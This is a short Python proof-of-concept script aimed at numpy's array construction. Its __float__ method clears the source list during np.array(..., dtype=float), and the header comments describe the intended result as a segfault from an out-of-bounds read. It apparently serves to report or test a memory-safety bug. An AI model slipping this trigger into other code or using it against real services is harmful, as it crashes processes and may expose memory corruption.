# source: numpy 1.24 numpy/core/src/multiarray/array_coercion.c, PyArray_AssignFromCache_Recursive: length checked once, then PySequence_Fast_GET_ITEM(obj, i) for every i while PyArray_Pack runs the element's conversion method (cf. the public "mutate a list in a callback" family, CPython list-mutation-during-iteration bugs)
# family: memory safety, script callback (__float__/__int__/__complex__/__str__) run by numpy while it walks a list by a stale length
# goal: np.array(list, dtype=float): __float__ clears the list, numpy reads the freed/NULL item array -> SIGSEGV (read out of bounds)
import numpy as np


class Quote:
    def __init__(self, px):
        self.px = px

    def __float__(self):
        book.clear()
        return float(self.px)


book = [Quote(1.5)] + [2.0] * 1000
arr = np.array(book, dtype=float)
print("done", arr[:4])
